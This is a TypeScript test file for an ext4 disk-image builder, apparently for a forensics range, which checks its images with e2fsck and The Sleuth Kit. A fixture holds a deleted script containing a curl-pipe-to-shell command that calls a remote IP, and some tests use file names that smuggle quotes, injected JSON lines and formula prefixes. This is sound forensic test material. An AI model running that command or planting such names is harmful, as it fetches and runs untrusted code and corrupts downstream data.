import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildDisk } from './disk-images.ts';
import type { FileNode, FileTree } from './file-tree.ts';
import { debugfsCanName, hasE2fsprogs } from './make-ext4.ts';
import { PARTITION_START_BYTES } from './mbr.ts';
import { writeExt4 } from './write-ext4.ts';

const BORN = Date.parse('2026-10-01T08:00:00Z');
const CHANGED = Date.parse('2026-11-19T12:41:07Z');
const DELETED = Date.parse('2026-11-19T12:43:00Z');

function node(path: string, kind: FileNode['kind'], text: string, rest: Partial<FileNode> = {}): FileNode {
  const times = { modifiedMs: CHANGED, accessedMs: CHANGED + 1000, changedMs: CHANGED + 2000, bornMs: BORN };
  return {
    path,
    kind,
    mode: kind === 'directory' ? 0o755 : 0o644,
    uid: 0,
    gid: 0,
    content: Buffer.from(text),
    times,
    ...rest,
  };
}

const tree: FileTree = {
  label: 'test',
  uuid: '6b1f9a40-3f1d-4f6e-9d11-0123456789ab',
  sizeBytes: 16 * 1_048_576,
  madeMs: BORN,
  writtenMs: CHANGED,
  nodes: [
    node('/', 'directory', ''),
    node('/etc', 'directory', ''),
    node('/etc/motd', 'file', 'hello\n', { mode: 0o600, uid: 1000, gid: 1000 }),
    node('/etc/link', 'symlink', 'motd', { mode: 0o777 }),
    node('/etc/empty', 'file', ''),
    node('/tmp', 'directory', '', { mode: 0o1777 }),
    node('/tmp/gone.sh', 'file', 'curl http://198.51.100.23/x | sh\n', { deletedAtMs: DELETED }),
    node('/tmp/big', 'file', 'x'.repeat(70_000)),
  ],
};

const folder = mkdtempSync(join(tmpdir(), 'range-ext4-test-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function save(name: string, bytes: Buffer): string {
  const path = join(folder, name);
  writeFileSync(path, bytes);
  return path;
}

function listing(disk: string): string {
  return execFileSync('/usr/bin/fls', ['-r', '-p', '-m', '/', '-o', '2048', disk]).toString();
}

function checkDisk(name: string, disk: Buffer): void {
  const partition = save(`${name}.part`, disk.subarray(PARTITION_START_BYTES));
  const verdict = execFileSync('/usr/sbin/e2fsck', ['-f', '-n', partition], {
    stdio: ['ignore', 'pipe', 'pipe'],
  }).toString();
  expect(verdict).not.toMatch(/error|Fix\?|Create\?/i);
  const rows = listing(save(`${name}.disk`, disk)).split('\n');
  const motd = rows.find((row) => row.includes('//etc/motd|') || row.includes('|/etc/motd|'))!.split('|');
  const times = motd.slice(7, 11).map(Number);
  expect(times).toEqual([CHANGED / 1000 + 1, CHANGED / 1000, CHANGED / 1000 + 2, BORN / 1000]);
  expect(motd.slice(4, 7)).toEqual(['1000', '1000', '6']);
  expect(rows.some((row) => row.includes('gone.sh') && row.includes('(deleted'))).toBe(true);
}

const hasTools = existsSync('/usr/bin/fls') && existsSync('/usr/sbin/e2fsck');

describe('ext4 images', () => {
  it('are the same bytes every time', () => {
    expect(writeExt4(tree).equals(writeExt4(tree))).toBe(true);
  });

  it('refuse a child whose parent is not listed', () => {
    expect(() => writeExt4({ ...tree, nodes: [node('/no/parent', 'file', '')] })).toThrow(/parent/);
  });

  it.runIf(hasTools)('written by the range pass e2fsck and show their times to The Sleuth Kit', async () => {
    checkDisk('own', await buildDisk(tree, 'own'));
  });

  it('with names that debugfs cannot be told are written by the range itself', async () => {
    const names = ['a b', 'say "x"', 'ok\n{"level":50}', '\t=1+1'];
    expect(debugfsCanName(tree)).toBe(true);
    for (const name of names)
      expect(debugfsCanName({ ...tree, nodes: [...tree.nodes, node(`/etc/${name}`, 'file', '')] })).toBe(false);
    const hostile = { ...tree, nodes: [...tree.nodes, ...names.map((name) => node(`/etc/${name}`, 'file', name))] };
    const disk = await buildDisk(hostile, 'own');
    for (const name of names) expect(disk.includes(name)).toBe(true);
    if (hasTools) checkDisk('hostile', disk);
  });

  it.runIf(hasTools)('keep the content of a deleted file in its old block', async () => {
    const disk = await buildDisk(tree, 'own');
    expect(disk.includes('curl http://198.51.100.23/x | sh')).toBe(true);
  });

  it.runIf(hasTools && hasE2fsprogs())('made by mke2fs pass the same checks', async () => {
    const first = await buildDisk(tree, 'e2fsprogs');
    checkDisk('tool', first);
    expect((await buildDisk(tree, 'e2fsprogs')).equals(first)).toBe(true);
  });
});
